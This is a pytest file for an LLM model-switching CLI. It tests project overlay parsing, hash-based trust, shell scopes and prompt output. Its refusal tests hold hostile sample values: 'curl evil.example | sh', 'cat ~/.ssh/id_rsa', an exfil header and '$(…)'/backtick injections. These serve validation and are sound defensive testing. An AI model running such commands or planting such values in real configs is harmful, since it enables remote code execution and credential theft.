"""Shell and project scopes (issue 13): the overlay's allowed shape, trust by content hash, the
walk up from the working directory, ``shell use|reset`` in real shells, ``use --project``,
``trust``, ``prompt`` and ``doctor``."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

import llmswitch
from llmswitch.base.errors import SelectionError
from llmswitch.services.switch import switch
from llmswitch.store import overlay, scopes, selection

CONFIG = "".join(f'[providers.{p}]\nbase_url = "http://127.0.0.1:9/{p}/v1"\nkey_source = "none"\n\n' for p in "usp")


@pytest.fixture
def repo(config_dir, tmp_path, monkeypatch):
    config_dir.mkdir(parents=True, exist_ok=True)
    (config_dir / "config.toml").write_text(CONFIG)
    switch("u/user-model", check_key=False)
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    monkeypatch.chdir(root / "src")
    return root


def put(root: Path, text: str) -> Path:
    path = root / overlay.PROJECT_FILE
    path.write_text(text)
    return path


# --- the shape: allowed exactly, refused with file:line -----------------------------------------

ALLOWED = ('# which model this repo uses\n[roles]\ndefault = "p/proj-model"  # a comment\n\n'
           "small = 'p/tiny'\n")


def test_the_allowed_shape_parses_the_same_as_toml(repo):
    import tomllib

    path = put(repo, ALLOWED)
    assert overlay.parse(ALLOWED, str(path)) == {"default": ("p/proj-model", 3), "small": ("p/tiny", 5)}
    assert tomllib.loads(ALLOWED) == {"roles": {"default": "p/proj-model", "small": "p/tiny"}}


@pytest.mark.parametrize(("text", "line", "said"), [
    ('[roles]\ndefault = "p/m"\nbase_url = "https://evil.example/v1"\n', 3, "base_url cannot be set"),
    ('[roles]\nkey = "sk-test-not-a-real-key"\n', 2, "key cannot be set"),
    ('[roles]\nkey_source = "command:curl evil.example | sh"\n', 2, "key_source cannot be set"),
    ('[roles]\nkey_command = "cat ~/.ssh/id_rsa"\n', 2, "key_command cannot be set"),
    ('[roles]\nheaders = { "X-Exfil" = "1" }\n', 2, "headers cannot be set"),
    ('[roles.default]\nprovider = "p"\nbase_url = "https://evil.example"\n', 1, "[roles.default] is a table"),
    ('[providers.p]\nbase_url = "https://evil.example"\n', 1, "[providers.p] is not allowed"),
    ('base_url = "https://evil.example"\n', 1, "base_url cannot be set"),
    ('default = "p/m"\n', 1, "outside [roles]"),
    ('[roles]\nroles.default.base_url = "https://evil.example"\n', 2, "base_url cannot be set"),
    ('[roles]\ndefault = "p/m"\ndefault = "p/n"\n', 3, "set twice"),
    ('[roles]\ndefault = "no-slash"\n', 2, "is not PROVIDER/MODEL"),
    ('[roles]\ndefault = "p/m$(touch /tmp/x)"\n', 2, "contains '$'"),
    ('[roles]\ndefault = "p/m\\u0041"\n', 2, "not one quoted"),
    ('[roles]\ndefault = """p/m"""\n', 2, "not one quoted"),
    ('[roles]\nDefault = "p/m"\n', 2, "is not a role name"),
    ('[roles]\ndefault = 1\n', 2, "not one quoted"),
    ('[roles]\njust words\n', 2, "is not TOML this file may hold"),
    ('[roles]\n[roles]\n', 2, "[roles] is not allowed"),
])
def test_anything_but_the_allowed_shape_is_refused_with_its_line(repo, text, line, said):
    path = put(repo, text)
    with pytest.raises(SelectionError) as caught:
        overlay.parse(text, str(path))
    assert caught.value.subject == f"{path}:{line}"
    assert said in caught.value.cause and caught.value.fix
    assert "\n" not in caught.value.sentence()  # one sentence


def test_trust_refuses_a_file_of_another_shape_or_an_unknown_provider(repo, run_cli):
    put(repo, '[roles]\ndefault = "p/m"\nbase_url = "https://evil.example/v1"\n')
    done = run_cli("trust")
    assert done.returncode == 2 and f"{repo / overlay.PROJECT_FILE}:3: base_url cannot be set" in done.stderr
    put(repo, '[roles]\ndefault = "nosuch/m"\n')
    done = run_cli("trust")
    assert done.returncode == 2 and ":2: role default: unknown provider 'nosuch'" in done.stderr
    assert not Path(overlay.trust_path()).exists()  # nothing was trusted


# --- trust and change detection -------------------------------------------------------------------

def test_an_untrusted_file_is_ignored_with_one_line_saying_how_to_trust_it(repo, run_cli, capsys):
    path = put(repo, '[roles]\ndefault = "p/proj-model"\n')
    looked = scopes.Scopes()
    assert looked.resolve().scope == "user"
    looked = scopes.Scopes()  # said once per process
    err = capsys.readouterr().err
    assert err == (f"llmswitch: ignoring {path} (not trusted yet) — to use it, read it, then run: cd {repo} && "
                   f"llmswitch trust\n")
    done = run_cli("trust")
    assert done.returncode == 0 and "default → p/proj-model" in done.stdout
    assert llmswitch.active().ref == "p/proj-model"


def test_a_changed_file_is_ignored_by_its_hash_even_with_the_same_size_and_mtime(repo, run_cli, capsys):
    path = put(repo, '[roles]\ndefault = "p/model-a"\n')
    assert run_cli("trust").returncode == 0
    assert llmswitch.active().ref == "p/model-a"
    before = path.stat()
    path.write_text('[roles]\ndefault = "p/model-b"\n')  # same length
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert path.stat().st_size == before.st_size and path.stat().st_mtime_ns == before.st_mtime_ns
    resolved = scopes.resolve()
    assert resolved.scope == "user" and resolved.selection.ref == "u/user-model"
    assert "(changed since you trusted it)" in capsys.readouterr().err
    assert run_cli("trust").returncode == 0
    assert llmswitch.active().ref == "p/model-b"
    assert run_cli("trust", "--forget").stdout.startswith("no longer trusted")
    assert scopes.resolve().scope == "user"


def test_the_trust_list_is_written_atomically_and_refused_when_others_can_write_it(repo):
    path = put(repo, '[roles]\ndefault = "p/m"\n')
    overlay.record(str(path), path.read_bytes())
    store = Path(overlay.trust_path())
    assert store.stat().st_mode & 0o777 == 0o600 and store.parent.stat().st_mode & 0o777 == 0o700
    assert store.read_text() == f"{overlay.digest(path.read_bytes())}  {path}\n"
    os.chmod(store, 0o666)
    with pytest.raises(SelectionError) as caught:
        llmswitch.active()
    assert "writable by other users" in caught.value.cause


def test_a_file_others_can_write_is_ignored_even_when_trusted(repo, capsys):
    path = put(repo, '[roles]\ndefault = "p/m"\n')
    overlay.record(str(path), path.read_bytes())
    os.chmod(path, 0o666)
    assert scopes.resolve().scope == "user"
    assert "writable by other users" in capsys.readouterr().err


def test_the_walk_up_stops_at_home(repo, tmp_path, monkeypatch):
    put(tmp_path, '[roles]\ndefault = "p/m"\n')  # above the home directory: never looked at
    monkeypatch.setenv("HOME", str(repo))
    assert overlay.find() is None
    put(repo, '[roles]\ndefault = "p/m"\n')  # home itself is the last directory looked at
    assert overlay.find() == str(repo / overlay.PROJECT_FILE)
    monkeypatch.setenv("HOME", "/nonexistent")
    assert overlay.find(str(repo / "src")) == str(repo / overlay.PROJECT_FILE)


def test_a_trusted_overlay_naming_a_provider_you_removed_is_an_error_with_its_line(repo, config_dir):
    path = put(repo, '[roles]\nsmall = "s/m"\n')
    overlay.record(str(path), path.read_bytes())
    (config_dir / "config.toml").write_text(CONFIG.replace("[providers.s]", "[providers.z]"))
    with pytest.raises(SelectionError) as caught:
        llmswitch.active("small")
    assert caught.value.subject == f"{path}:2" and "unknown provider 's'" in caught.value.cause


# --- where the provider's details come from ----------------------------------------------------------

def test_a_provider_in_active_toml_lends_its_details_without_reading_config_toml(repo, config_dir, monkeypatch):
    switch("s/shell-default", "small", check_key=False)
    (config_dir / "config.toml").write_text(CONFIG.replace("127.0.0.1:9/s/", "127.0.0.1:9/s-moved/"))
    monkeypatch.setenv(scopes.SHELL_VAR, "default=s/other")
    sel = llmswitch.active()
    assert (sel.ref, sel.base_url, sel.role, sel.updated) == ("s/other", "http://127.0.0.1:9/s/v1", "default", None)
    monkeypatch.setenv(scopes.SHELL_VAR, "default=p/other")  # not in active.toml: config.toml decides
    assert llmswitch.active().base_url == "http://127.0.0.1:9/p/v1"


@pytest.mark.parametrize("value", ["default", "default=nope", "=p/m", "Default=p/m", "default=p/m`id`"])
def test_a_malformed_shell_scope_is_refused_with_the_fix(repo, monkeypatch, value):
    monkeypatch.setenv(scopes.SHELL_VAR, value)
    with pytest.raises(SelectionError) as caught:
        llmswitch.active()
    assert caught.value.subject == "$LLMSWITCH_USE" and "llmswitch shell reset" in caught.value.fix


# --- use --project, /model --project, doctor, prompt ---------------------------------------------------

def test_use_project_writes_and_trusts_the_overlay_and_refuses_to_rewrite_an_unseen_one(repo, run_cli, monkeypatch):
    monkeypatch.chdir(repo)
    done = run_cli("use", "--project", "p/proj-model")
    assert done.returncode == 0, done.stderr
    path = repo / overlay.PROJECT_FILE
    assert path.stat().st_mode & 0o777 == 0o644  # meant to be committed
    assert overlay.parse(path.read_text(), str(path)) == {"default": ("p/proj-model", 4)}
    assert run_cli("use", "--project", "--role", "small", "s/tiny").returncode == 0
    assert run_cli("current", "--field", "scope").stdout == "project\n"
    assert run_cli("current", "--field", "model", "--role", "small").stdout == "tiny\n"
    assert run_cli("use", "--project", "nosuch/m").returncode == 3
    path.write_text(path.read_text() + "# edited by someone\n")
    done = run_cli("use", "--project", "p/again")
    assert done.returncode == 2 and "will not rewrite it (changed since you trusted it)" in done.stderr
    assert run_cli("trust").returncode == 0
    assert run_cli("use", "--project", "--role", "small", "--unset").returncode == 0
    assert run_cli("use", "--project", "--unset").returncode == 0
    assert not path.exists() and run_cli("current", "--field", "scope").stdout == "user\n"


def test_model_project_in_the_repl_writes_the_overlay_and_save_stays_the_user_default(repo, monkeypatch):
    from llmswitch.repl import ModelSwitcher

    monkeypatch.chdir(repo)
    switcher = ModelSwitcher(interactive=False, probe_timeout=None)
    reply = switcher.handle("/model --project p/proj-model")
    assert reply.ok and reply.scope == "project" and str(repo / overlay.PROJECT_FILE) in reply.text
    assert switcher.selection().ref == "p/proj-model" and "from the project scope" in switcher.describe()
    assert selection.read().ref == "u/user-model"  # active.toml untouched
    assert switcher.handle("/model --save s/saved").scope == "saved"
    assert selection.read().ref == "s/saved" and switcher.selection().ref == "p/proj-model"  # project wins
    assert not switcher.handle("/model --save --project p/x").ok


def test_doctor_lists_the_scopes_in_force(repo, monkeypatch):
    path = put(repo, '[roles]\nsmall = "p/tiny"\n')
    from llmswitch.services.doctor import config_findings  # what `llmswitch doctor` prints, without its probes

    found = [f for f in config_findings()[0] if f.area == "scopes"]
    assert [(f.level, f.cause) for f in found] == [("warning", f"project file ignored: {path} (not trusted yet)")]
    overlay.record(str(path), path.read_bytes())
    monkeypatch.setenv(scopes.SHELL_VAR, "default=s/sh")
    found = [f.cause for f in config_findings()[0] if f.area == "scopes"]
    assert found == ["shell scope: default → s/sh ($LLMSWITCH_USE, this shell only)",
                     f"project scope in force: {path} (trusted): small → p/tiny"]


def test_prompt_formats_and_marks_the_scope(repo, run_cli, monkeypatch):
    assert run_cli("prompt").stdout == "u/user-model\n"
    assert run_cli("prompt", "--format", "{provider}:{model} [{scope}]").stdout == "u:user-model [user]\n"
    put(repo, '[roles]\ndefault = "p/m"\n')
    done = run_cli("prompt")
    assert (done.stdout, done.stderr) == ("u/user-model (.llmswitch.toml ignored)\n", "")  # quiet: no stderr line
    done = run_cli("prompt", env={scopes.SHELL_VAR: "default=s/sh"})
    assert done.stdout == "s/sh (shell)\n"
    done = run_cli("prompt", "--format", "{nope}")
    assert done.returncode == 2 and "fields: {ref}" in done.stderr
    (Path(selection.paths.active_path())).write_text("version = 2\n")
    assert run_cli("prompt").stdout == "llmswitch?\n"


# --- shell use / reset in real shells ---------------------------------------------------------------

SHELL_RUNS = {
    "bash": 'eval "$(llmswitch shell use {ref})"; echo "[$LLMSWITCH_USE]"; llmswitch prompt; '
            'eval "$(llmswitch shell use --role small s/tiny)"; echo "[$LLMSWITCH_USE]"; '
            'eval "$(llmswitch shell reset --role small)"; echo "[$LLMSWITCH_USE]"; '
            'eval "$(llmswitch shell reset)"; echo "[${{LLMSWITCH_USE-unset}}]"; llmswitch prompt',
    "zsh": 'eval "$(llmswitch shell use {ref})"; echo "[$LLMSWITCH_USE]"; llmswitch prompt; '
           'eval "$(llmswitch shell use --role small s/tiny)"; echo "[$LLMSWITCH_USE]"; '
           'eval "$(llmswitch shell reset --role small)"; echo "[$LLMSWITCH_USE]"; '
           'eval "$(llmswitch shell reset)"; echo "[${{LLMSWITCH_USE-unset}}]"; llmswitch prompt',
    "fish": "llmswitch shell use {ref} | source; echo \"[$LLMSWITCH_USE]\"; llmswitch prompt; "
            "llmswitch shell use --role small s/tiny | source; echo \"[$LLMSWITCH_USE]\"; "
            "llmswitch shell reset --role small | source; echo \"[$LLMSWITCH_USE]\"; "
            "llmswitch shell reset | source; set -q LLMSWITCH_USE; or echo '[unset]'; llmswitch prompt",
}
ODD_MODEL = "s/org/m:1+b~c(q)"  # characters real model ids have, each meaningful to some shell


@pytest.mark.parametrize("shell", sorted(SHELL_RUNS))
def test_shell_use_and_reset_in_the_real_shell(repo, shell, tmp_path):
    binary = shutil.which(shell)
    if binary is None:
        message = f"{shell} is not installed — apt-get install -y {shell} to run this test"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    bindir = tmp_path / "bin"
    bindir.mkdir()
    from runcli import cli_command

    (bindir / "llmswitch").write_text("#!/bin/sh\nexec " + " ".join(f"'{part}'" for part in cli_command()) + ' "$@"\n')
    (bindir / "llmswitch").chmod(0o755)
    env = {**os.environ, "PATH": f"{bindir}{os.pathsep}{os.environ['PATH']}", "SHELL": binary}
    done = subprocess.run([binary, "-c", SHELL_RUNS[shell].format(ref=f"'{ODD_MODEL}'")], capture_output=True,
                          text=True, timeout=120, env=env)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [f"[default={ODD_MODEL}]", f"{ODD_MODEL} (shell)",
                                        f"[default={ODD_MODEL};small=s/tiny]", f"[default={ODD_MODEL}]", "[unset]",
                                        "u/user-model"]
    assert f"llmswitch: default → {ODD_MODEL} in this shell only ($LLMSWITCH_USE)" in done.stderr


def test_powershell_text(repo, run_cli):
    done = run_cli("shell", "use", "--shell", "powershell", ODD_MODEL)
    assert done.returncode == 0 and done.stdout == f"$env:LLMSWITCH_USE = 'default={ODD_MODEL}'\n"
    done = run_cli("shell", "reset", "--shell", "powershell")
    assert done.stdout == "Remove-Item Env:LLMSWITCH_USE -ErrorAction SilentlyContinue\n"


def test_shell_use_refuses_an_unknown_provider_and_prints_nothing_to_eval(repo, run_cli):
    done = run_cli("shell", "use", "nosuch/m")
    assert done.returncode == 3 and done.stdout == "" and "unknown provider 'nosuch'" in done.stderr


def test_the_repl_knows_the_roles_every_scope_sets(repo, monkeypatch):
    from llmswitch.repl import ModelSwitcher

    overlay.write(str(repo), {"review": "p/reviewer"})
    monkeypatch.setenv(scopes.SHELL_VAR, "fast=s/quick")
    switcher = ModelSwitcher(interactive=False, probe_timeout=None)
    assert switcher.roles() == ["default", "fast", "review"]
    assert switcher.complete("/model --role r") == ["review"]


def test_chat_uses_the_scope_in_force_and_says_so(upstream, config_dir, run_cli, tmp_path, monkeypatch):
    from upstreams import Reply, chat_completions, models_body

    server = upstream()
    server.get("/v1/models", Reply.json(models_body(["model-a", "model-b", "model-c"])))
    server.post("/v1/chat/completions", chat_completions(reply=lambda messages: "hello"))
    config_dir.mkdir(parents=True, exist_ok=True)
    (config_dir / "config.toml").write_text(f'[providers.fake]\nbase_url = "{server.url}/v1"\nkey_source = "none"\n')
    assert run_cli("use", "fake/model-a").returncode == 0
    done = run_cli("chat", input="hi\n", env={scopes.SHELL_VAR: "default=fake/model-b"})
    assert done.returncode == 0, done.stderr
    assert "[fake/model-b · server reports model-b · shell scope ($LLMSWITCH_USE)]" in done.stderr
    assert server.requests_to("/v1/chat/completions")[-1].json()["model"] == "model-b"
    monkeypatch.chdir(tmp_path)
    assert run_cli("use", "--project", "fake/model-c").returncode == 0
    done = run_cli("chat", input="hi\n")
    assert f"[fake/model-c · server reports model-c · project scope ({tmp_path / overlay.PROJECT_FILE}:4)]" in done.stderr
    assert server.requests_to("/v1/chat/completions")[-1].json()["model"] == "model-c"
